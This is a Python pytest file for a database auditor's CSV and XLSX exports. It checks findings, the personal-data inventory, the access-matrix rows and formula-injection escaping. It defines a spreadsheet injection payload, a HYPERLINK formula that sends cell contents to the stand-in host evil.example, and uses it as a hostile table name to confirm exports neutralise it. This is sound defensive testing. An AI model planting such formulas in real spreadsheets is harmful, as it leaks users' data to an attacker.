"""CSV and XLSX for auditors: findings, the personal-data inventory (one row per column, with readers) and the access
matrix; they open in openpyxl with the expected rows, and a hostile name never becomes a formula."""
from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import openpyxl
import pytest
from psycopg import sql

from auditor.engine.report import build_report, read_report
from auditor.model.names import relation_object
from auditor.render import FILES, FORMATS, output_paths, parse_formats, render
from auditor.render.sheets import neutralise

from .helpers import audit

SAMPLES = Path(__file__).resolve().parent.parent / "sample_reports"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def read_csv(path: Path) -> list[dict[str, str]]:
    text = path.read_bytes().decode("utf-8")
    assert text.startswith("\ufeff")                         # Excel reads UTF-8 only with the BOM
    return list(csv.DictReader(io.StringIO(text[1:])))


def read_xlsx(path: Path) -> dict[str, list[dict[str, object]]]:
    wb = openpyxl.load_workbook(path)
    out = {}
    for ws in wb.worksheets:
        rows = list(ws.iter_rows())
        header = [c.value for c in rows[0]]
        for row in rows[1:]:
            assert all(c.data_type != "f" for c in row), [c.value for c in row]     # no formula, ever
        out[ws.title] = [dict(zip(header, ["" if c.value is None else c.value for c in row])) for row in rows[1:]]
    return out


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("plain", "plain"), ("a=b", "a=b"), ("", ""), (None, ""), (3, 3), (-2, -2), (0.5, 0.5), (True, "yes"),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_formats_are_registered_and_csv_writes_three_files(tmp_path):
    assert {"csv", "xlsx"} <= set(parse_formats("all"))
    assert FILES["csv"] == ("findings.csv", "inventory.csv", "access_matrix.csv") and FORMATS["xlsx"] == "report.xlsx"
    report = read_report(SAMPLES / "report.json")
    assert render("csv", report, tmp_path / "o") == tmp_path / "o" / "findings.csv"
    assert sorted(p.name for p in (tmp_path / "o").iterdir()) == sorted(FILES["csv"])
    assert [p.name for p in output_paths("csv", tmp_path / "o")] == list(FILES["csv"])
    render("xlsx", report, tmp_path / "o")
    for p in (tmp_path / "o").iterdir():
        assert os.stat(p).st_mode & 0o777 == 0o600, p


def test_the_demo_report_exports_the_expected_rows(tmp_path):
    report = json.loads((SAMPLES / "report.json").read_text("utf-8"))
    render("csv", read_report(SAMPLES / "report.json"), tmp_path)
    render("xlsx", read_report(SAMPLES / "report.json"), tmp_path)
    book = read_xlsx(tmp_path / "report.xlsx")
    assert list(book) == ["findings", "inventory", "access_matrix"]
    for name in ("findings", "inventory", "access_matrix"):
        rows = read_csv(tmp_path / f"{name}.csv")
        assert [{k: str(v) for k, v in r.items()} for r in book[name]] == rows, name   # the same rows in both

    findings = book["findings"]
    assert len(findings) == len(report["findings"])
    assert {(r["check_id"], r["object"], r["status"]) for r in findings} == \
        {(f["check_id"], f["object"], f["status"]) for f in report["findings"]}
    pan = next(r for r in findings if (r["check_id"], r["object"]) == ("SENS-001", "shop.public.payments.card_number"))
    assert pan["status"] == "fail" and pan["database"] == "shop" and "PCI DSS" in pan["references"]

    inventory = book["inventory"]
    n_columns = sum(len(t["columns"]) for d in report["data_inventory"]["databases"] for t in d["tables"])
    assert len(inventory) == n_columns == 24
    ssn = next(r for r in inventory if (r["table"], r["column"]) == ("customers", "ssn"))
    assert (ssn["database"], ssn["schema"], ssn["category"], ssn["protection"], ssn["personal_data"]) == \
        ("shop", "public", "national_id", "plaintext", "yes")
    assert "report_ro" in ssn["readers"].split(", ") and "postgres (superuser)" in ssn["readers"]
    card = next(r for r in inventory if (r["table"], r["column"]) == ("stored_cards", "card_enc"))
    assert card["protection"] == "encrypted"
    assert all("***" not in str(v) for r in inventory for v in r.values())        # no masked example either

    matrix = book["access_matrix"]
    lists = report["access_matrix"]["reader_lists"]
    expected = {(t["table"], c["name"], r["role"]) for t in report["access_matrix"]["tables"]
                for g in t["column_groups"] for c in g["columns"] for r in lists[g["readers"]]["readers"]}
    assert {(r["table"], r["column"], r["role"]) for r in matrix} == expected and len(matrix) == len(expected)
    via = next(r for r in matrix if (r["table"], r["column"], r["role"]) == ("customers", "ssn", "backup"))
    assert via["via"] == "member of report_ro (table grant)" and via["superuser"] == "no"


def test_hostile_names_from_a_real_cluster_come_out_neutralised(fresh_db, pg15, tmp_path):
    fresh_db.execute(sql.SQL("CREATE TABLE {t} ({c} text, email text, ssn text); GRANT SELECT ON {t} TO PUBLIC").format(
        t=sql.Identifier(HOSTILE), c=sql.Identifier("@cmd")))
    result = audit(pg15.dsn(), ["GRANT-001", "sensitive_data"], databases=[fresh_db.name])
    report = build_report(result, normalised=True)
    for fmt in ("csv", "xlsx"):
        render(fmt, report, tmp_path)
    obj = relation_object(fresh_db.name, "public", HOSTILE)

    for book in (read_xlsx(tmp_path / "report.xlsx"),
                 {n: read_csv(tmp_path / f"{n}.csv") for n in ("findings", "inventory", "access_matrix")}):
        assert any((r["check_id"], r["object"], r["status"]) == ("GRANT-001", obj, "fail") for r in book["findings"])
        mine = [r for r in book["inventory"] if r["database"] == fresh_db.name]
        assert {(r["table"], r["column"], r["category"]) for r in mine} == \
            {("'" + HOSTILE, "email", "email"), ("'" + HOSTILE, "ssn", "national_id")}
        assert all(r["readable_by_public"] == "yes" for r in mine)
        rows = [r for r in book["access_matrix"] if r["database"] == fresh_db.name]
        assert rows and {r["table"] for r in rows} == {"'" + HOSTILE}
        assert any(r["role"] == "postgres" and r["superuser"] == "yes" for r in rows)
        for sheet in book.values():
            for row in sheet:
                for value in row.values():
                    assert not str(value).startswith(("=", "+", "-", "@", "\t", "\r")), value
    raw = (tmp_path / "inventory.csv").read_text("utf-8")
    assert f'"\'{HOSTILE.replace(chr(34), chr(34) * 2)}"' in raw             # quoted, apostrophe first
